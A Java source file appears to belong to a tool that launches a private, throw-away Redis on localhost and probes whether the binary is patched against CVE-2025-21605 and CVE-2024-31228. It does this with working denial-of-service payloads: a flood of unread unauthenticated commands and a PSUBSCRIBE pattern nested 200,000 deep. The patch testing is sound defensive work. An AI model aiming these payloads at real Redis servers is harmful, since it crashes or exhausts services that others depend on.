package joshua.redis;

import java.io.EOFException;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Comparator;
import java.util.stream.Stream;
import joshua.kernel.TimedWait;

/**
 * An attack on a private, throw-away Redis, to see what its program withstands. Version numbers
 * don't show that: distributions patch old versions and keep the number.
 */
final class ProgramProbe {
  /** From the start of the program to the verdict. */
  static final Duration WITHIN = Duration.ofSeconds(1);

  private static final long MIB = 1024 * 1024;
  private static final RedisConf.Limits LIMITS = new RedisConf.Limits(4 * MIB, MIB, 64 * MIB);

  /** A depth that an unpatched program with a stack of {@link #STACK_KIB} doesn't survive. */
  private static final int DEPTH = 200_000;

  /** The usual default stack of processes. */
  private static final int STACK_KIB = 8 * 1024;

  private static final Duration LOOK_EVERY = Duration.ofMillis(2);
  private static final byte[] COMMANDS = "A\r\n".repeat(20_000).getBytes(StandardCharsets.US_ASCII);

  private final Path directory;
  private final TimedWait timedWait;

  /**
   * Probes below a directory.
   *
   * @param directory where files of the probe are put, and deleted after it
   */
  ProgramProbe(Path directory, TimedWait timedWait) {
    this.directory = directory;
    this.timedWait = timedWait;
  }

  ProbeVerdict attack(Path program) throws IOException, InterruptedException {
    long deadline = System.nanoTime() + WITHIN.toNanos();
    Path room = Files.createTempDirectory(directory, "probe.");
    try {
      RedisPassword redisPassword = RedisPassword.random();
      int port = RedisPorts.anyFree();
      Path conf = room.resolve("redis.conf");
      OwnerOnlyFile.replace(conf, new RedisConf(port, redisPassword, LIMITS, false).text());
      RedisProcess process = RedisProcess.start(program, conf, room, STACK_KIB);
      try {
        return attack(process, port, redisPassword, deadline);
      } finally {
        ProcessHandle.of(process.pid())
            .filter(_ -> process.pid() > 0)
            .ifPresent(ProcessHandle::destroyForcibly);
        process.stop();
      }
    } finally {
      delete(room);
    }
  }

  private ProbeVerdict attack(
      RedisProcess process, int port, RedisPassword redisPassword, long deadline)
      throws IOException, InterruptedException {
    while (process.pid() == 0 || !RedisProbe.answers(port, redisPassword)) {
      if (!process.alive()) {
        return process.binaryWasBusy()
            ? ProbeVerdict.TOO_SLOW
            : ProbeVerdict.REFUSES_ITS_CONFIGURATION;
      }
      if (System.nanoTime() > deadline) {
        return ProbeVerdict.TOO_SLOW;
      }
      timedWait.pause(LOOK_EVERY);
    }
    if (!closesOnUnreadAnswers(port, deadline)) {
      return ProbeVerdict.TOO_SLOW;
    }
    try {
      nestPatterns(port, redisPassword, deadline);
      return ProbeVerdict.RESISTS;
    } catch (IOException e) {
      return System.nanoTime() > deadline ? ProbeVerdict.TOO_SLOW : ProbeVerdict.ENDED_BY_A_PATTERN;
    }
  }

  /** CVE-2025-21605: whether an unauthenticated client that reads no answers is disconnected. */
  private boolean closesOnUnreadAnswers(int port, long deadline) throws InterruptedException {
    try (SocketChannel channel = SocketChannel.open()) {
      channel.socket().setReceiveBufferSize(4_096);
      channel.connect(address(port));
      channel.configureBlocking(false);
      while (System.nanoTime() < deadline) {
        if (channel.write(ByteBuffer.wrap(COMMANDS)) == 0) {
          timedWait.pause(LOOK_EVERY);
        }
      }
      return false;
    } catch (IOException e) {
      return true;
    }
  }

  /**
   * CVE-2024-31228: a pattern that makes an unpatched program recurse deeper than its stack allows.
   */
  private static void nestPatterns(int port, RedisPassword redisPassword, long deadline)
      throws IOException {
    try (Socket subscriber = connect(port, deadline);
        Socket publisher = connect(port, deadline)) {
      ask(subscriber, "AUTH", redisPassword.text());
      ask(subscriber, "PSUBSCRIBE", "mad." + "*a".repeat(DEPTH));
      ask(publisher, "AUTH", redisPassword.text());
      ask(publisher, "PUBLISH", "mad." + "a".repeat(DEPTH), "x");
    }
  }

  private static Socket connect(int port, long deadline) throws IOException {
    Socket socket = new Socket();
    int millis = (int) Math.max(1, Duration.ofNanos(deadline - System.nanoTime()).toMillis());
    socket.connect(address(port), millis);
    socket.setSoTimeout(millis);
    return socket;
  }

  /** Sends a command, and waits for the beginning of an answer. */
  private static void ask(Socket socket, String... words) throws IOException {
    StringBuilder command = new StringBuilder("*" + words.length + "\r\n");
    for (String word : words) {
      command.append("$").append(word.length()).append("\r\n").append(word).append("\r\n");
    }
    socket.getOutputStream().write(command.toString().getBytes(StandardCharsets.US_ASCII));
    int read;
    do {
      read = socket.getInputStream().read();
    } while (read >= 0 && read != '\n');
    if (read < 0) {
      throw new EOFException("the connection was closed");
    }
  }

  private static InetSocketAddress address(int port) {
    return new InetSocketAddress(InetAddress.ofLiteral(EmbeddedRedis.HOST), port);
  }

  private static void delete(Path room) throws IOException {
    try (Stream<Path> files = Files.walk(room)) {
      for (Path file : files.sorted(Comparator.reverseOrder()).toList()) {
        Files.delete(file);
      }
    } catch (UncheckedIOException e) {
      throw e.getCause();
    }
  }
}
